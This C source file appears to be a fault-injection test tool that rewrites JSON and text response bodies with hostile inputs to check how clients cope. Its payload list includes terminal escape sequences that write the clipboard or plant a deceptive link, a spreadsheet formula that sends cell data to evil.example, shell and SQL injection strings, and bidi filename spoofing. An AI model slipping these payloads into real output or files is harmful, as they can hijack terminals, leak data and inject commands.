#include "sandbox/faults.h"

#include <stdio.h>
#include <string.h>

#include "base/limits.h"
#include "net/json.h"

#define LONG_SQL_COLUMNS 10000
#define LONG_LINE_BYTES  LIMIT_MIB
#define BODY_MAX_BYTES   (64 * LIMIT_MIB)
/* The long ones strike few fields: with all of them an answer would be no answer any more. */
#define LONG_SQL_EVERY  47
#define LONG_LINE_PLACE 61
/* In one of so many objects nothing is spared, not even ids and states. */
#define RUTHLESS_EVERY 7

/* Stand for what no JSON library writes; they are put in once the document is text. */
#define RAW_MARK    "@raw-"
#define NUMBER_MARK "@number-"

/* Each field gets all of them, and each time begins with another. */
static const char *const ATTACKS[] = {
    "\x1b]52;c;b3duZWQ=\x07",                               /* the clipboard */
    "\x1b]0;owned\x07\x1b]2;owned\x1b\\",                   /* the title */
    "\x1b]8;;http://evil.example/\x1b\\here\x1b]8;;\x1b\\", /* a link that lies */
    "\x1b[2J\x1b[H\x1b[31;5m\x1b[?1049l\x1b[?25h",          /* screen, colour, modes */
    "\x1b[6n\x1b[c\x1b[21t\x05",                            /* makes the terminal type */
    "\x1bP$q\"p\x1b\\\x1bX sos \x1b\\\x1b^ pm \x1b\\",      /* DCS, SOS, PM */
    "\x1b_Gf=100,a=T;AAAA\x1b\\",                           /* APC: a picture */
    "\x1b"
    "c\x1b(0\x0e\x0f\x18\x1a\x07", /* reset, charsets, CAN, BEL */
    "\xc2\x9b"
    "31m\xc2\x9d"
    "0;owned\xc2\x9c\xc2\x90q\xc2\x9f",                     /* C1 as UTF-8 */
    "\r\nHTTP/1.1 200\r\n\t\b\b\b\rover\x0b\x0c",           /* lines and back */
    "\xe2\x80\xae\xd7\x90 txt.exe\xe2\x81\xa6\xe2\x80\x8f", /* from right to left */
    "a\xe2\x80\x8b\xe2\x80\x8d"
    "b\xef\xbb\xbf\xe2\x81\xa0\xc2\xad", /* zero width */
    "Z\xcc\x81\xcc\x82\xcc\x83\xcc\x84\xcc\x85\xcc\x86\xcc\x87\xcc\x88\xcc\x89\xcc\x8a", /* tower */
    "\xe2\x80\xa8\xe2\x80\xa9\x7f\xef\xbf\xbe\xee\x80\x80", /* separators, DEL, private */
    "\xf3\xa0\x81\x81\xef\xb8\x8f\xe1\xa0\x8b\xe3\x85\xa4", /* tags, variations, fillers */
    "\xe6\xbc\xa2\xe5\xad\x97\xf0\x9f\xa6\x80\xf0\x9f\x91\xa9\xe2\x80\x8d\xf0\x9f\x91\xa7", /* wide
                                                                                             */
    "=HYPERLINK(\"http://evil.example/?\"&A1)", /* for spreadsheets */
    "%s%n${IFS}$(owned)`owned`';--",            /* for careless programs */
    RAW_MARK "0@",
    RAW_MARK "1@",
    RAW_MARK "2@",
    RAW_MARK "3@",
    RAW_MARK "4@",
};

#define ATTACK_COUNT (sizeof(ATTACKS) / sizeof(ATTACKS[0]))

static const char *const RAWS[] = {
    "\xff\xfe\xc3 \xed\xa0\x80\xf4\x90\x80\x80",            /* broken UTF-8 */
    "\23331m\2350;owned\234\220q\234",                      /* C1 as bytes */
    "\xc0\x9b\xe0\x80\x9b\xf0\x80\x80\x9b[2J",              /* overlong ESC */
    "\xf8\x88\x80\x80\x80\xfc\x84\x80\x80\x80\x80\xe2\x82", /* too long, and cut off */
    "\\u0000\\u001b[2J\\ud800\\udc00\\udfff",               /* escapes of JSON */
};

#define RAW_COUNT (sizeof(RAWS) / sizeof(RAWS[0]))

static const char *const NUMBERS[] = {
    "1e999",
    "-1e999",
    "-1",
    "99999999999999999999999999",
    "9223372036854775807",
    "-9223372036854775808",
    "1e-999",
    "18446744073709551616.5",
};

#define NUMBER_COUNT (sizeof(NUMBERS) / sizeof(NUMBERS[0]))

struct attacker {
    size_t seed;
    size_t turn;    /* fields so far */
    size_t objects; /* objects so far */
};

/* What a client must get right to ask again. */
static bool is_kept(const char *key)
{
    static const char *const kept[] = {
        "id",           "query_id",     "query_task_id", "slug",       "client_id",    "status",
        "workspace_id", "access_token", "token_type",    "created_at", "completed_at", "ran_at",
        "limit",        "runtime",      "result_format", "project_id", "state",        "created",
        "updated",      "start",        "next",          "href",       "taskId",       "queryId",
        "scheduleId",   "templateId",   "token",         "expires_in", "session_id",
    };
    for (size_t i = 0; i < sizeof(kept) / sizeof(kept[0]); i++)
        if (strcmp(kept[i], key) == 0)
            return true;
    return false;
}

static void add_attacks(struct strbuf *out, size_t first)
{
    for (size_t i = 0; i < ATTACK_COUNT; i++)
        strbuf_add_text(out, ATTACKS[(first + i) % ATTACK_COUNT]);
}

static void add_long_sql(struct strbuf *out)
{
    strbuf_add_text(out, "SELECT 0");
    for (int i = 1; i <= LONG_SQL_COLUMNS; i++)
        strbuf_addf(out, ", c%d", i);
}

/* Some texts keep their head, and some are attacked before anything is left of them. */
static struct json *attack_text(struct attacker *a, const char *text, size_t length)
{
    struct strbuf out;
    size_t turn = a->turn++;
    bool is_first = turn % 3 == 2;
    strbuf_init(&out, 4 * LIMIT_MIB);
    if (is_first)
        add_attacks(&out, a->seed + turn);
    strbuf_add(&out, text, length);
    if (!is_first)
        add_attacks(&out, a->seed + turn);
    if ((a->seed + turn) % LONG_SQL_EVERY == LONG_SQL_EVERY - 1)
        add_long_sql(&out);
    if (turn == a->seed % LONG_LINE_PLACE)
        strbuf_add_repeat(&out, 'W', LONG_LINE_BYTES);
    struct json *json = json_new_string_len(out.data, out.len);
    strbuf_finish(&out);
    return json;
}

static struct json *attack_number(struct attacker *a, const struct json *number)
{
    char mark[32];
    size_t turn = a->turn++;
    if (turn % 2)
        return json_share(number);
    snprintf(mark, sizeof(mark), NUMBER_MARK "%zu@", (a->seed + turn) % NUMBER_COUNT);
    return json_new_string(mark);
}

static struct json *rewrite(struct attacker *a, const struct json *value);

static struct json *rewrite_object(struct attacker *a, const struct json *value)
{
    struct json *out = json_new_object();
    bool is_ruthless = a->objects++ % RUTHLESS_EVERY == RUTHLESS_EVERY - 1;
    const void *cursor = NULL;
    const char *key;
    const struct json *member;
    while (json_next_member(value, &cursor, &key, &member)) {
        bool is_spared = !member || (is_kept(key) && !is_ruthless);
        json_set(out, key, is_spared ? (member ? json_share(member) : NULL) : rewrite(a, member));
    }
    json_set(out, ATTACKS[a->seed % ATTACK_COUNT], attack_text(a, "", 0)); /* a hostile name */
    return out;
}

static struct json *rewrite(struct attacker *a, const struct json *value)
{
    if (json_is_object(value))
        return rewrite_object(a, value);
    if (json_is_array(value)) {
        struct json *out = json_new_array();
        for (size_t i = 0; i < json_count(value); i++)
            json_push(out, rewrite(a, json_at(value, i)));
        return out;
    }
    if (json_is_number(value))
        return attack_number(a, value);
    if (json_is_string(value)) {
        size_t length;
        const char *text = json_string(value, &length);
        return attack_text(a, text, length);
    }
    return value ? json_share(value) : NULL;
}

/* A mark at the text's beginning: what it stands for, and its length. */
static const char *find_mark(const char *text, const char *mark, const char *const *meanings,
                             size_t count, size_t *out_length)
{
    size_t length = strlen(mark);
    if (strncmp(text, mark, length) != 0)
        return NULL;
    size_t which = (size_t)(unsigned char)text[length] - '0';
    if (which >= count || text[length + 1] != '@')
        return NULL; /* somebody wrote it who knows of marks */
    *out_length = length + 2;
    return meanings[which];
}

static void expand(struct strbuf *out, const char *text)
{
    while (*text) {
        size_t length = strcspn(text + 1, "@\"") + 1;
        const char *meaning = find_mark(text, RAW_MARK, RAWS, RAW_COUNT, &length);
        if (!meaning &&
            (meaning = find_mark(text, "\"" NUMBER_MARK, NUMBERS, NUMBER_COUNT, &length)))
            length++; /* the second quote */
        if (meaning)
            strbuf_add_text(out, meaning);
        else
            strbuf_add(out, text, length);
        text += length;
    }
}

/* Each line of a text gets the attacks at its end. */
static void rewrite_lines(struct strbuf *out, const char *text, size_t seed)
{
    for (; *text; seed++) {
        size_t length = strcspn(text, "\r\n");
        strbuf_add(out, text, length);
        if (length > 0)
            add_attacks(out, seed);
        text += length;
        length = strspn(text, "\r\n");
        strbuf_add(out, text, length);
        text += length;
    }
}

void hostile_rewrite(struct strbuf *body, size_t seed)
{
    struct attacker attacker = {.seed = seed};
    struct strbuf marked;
    struct json *json = json_parse(body->data, body->len, NULL);
    strbuf_init(&marked, BODY_MAX_BYTES);
    if (json) {
        struct json *out = rewrite(&attacker, json);
        json_format(out, false, &marked);
        json_destroy(out);
        json_destroy(json);
    } else {
        rewrite_lines(&marked, body->data, seed);
    }
    strbuf_clear(body);
    expand(body, marked.data);
    strbuf_finish(&marked);
}
